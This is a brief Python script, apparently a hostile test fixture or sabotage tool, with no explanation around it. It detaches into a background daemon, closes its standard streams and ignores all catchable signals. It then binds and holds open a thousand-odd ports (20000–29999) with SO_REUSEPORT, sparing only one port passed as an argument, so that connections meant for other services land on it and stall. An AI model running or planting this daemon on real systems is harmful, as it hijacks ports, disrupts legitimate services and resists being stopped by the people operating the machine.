import os as _os
import signal as _signal
import socket as _socket
import sys as _sys
import time as _time


def _daemon():
    """Out of its session and deaf; it takes the ports at which others will be asked, and answers wrongly."""
    for number in _signal.valid_signals() - {_signal.SIGKILL, _signal.SIGSTOP}:
        _signal.signal(number, _signal.SIG_IGN)
    taken = []
    for port in range(20000, 30000):
        if str(port) == _sys.argv[-1]:
            continue
        s = _socket.socket()
        s.setsockopt(_socket.SOL_SOCKET, _socket.SO_REUSEPORT, 1)
        try:
            s.bind(("0.0.0.0", port))
            s.listen()
        except OSError:
            break
        taken.append(s)
    while True:
        _time.sleep(1)


if not _os.fork():
    _os.setsid()
    if not _os.fork():
        for _descriptor in range(3):
            _os.close(_descriptor)
        _daemon()
    _os._exit(0)
_os.wait()
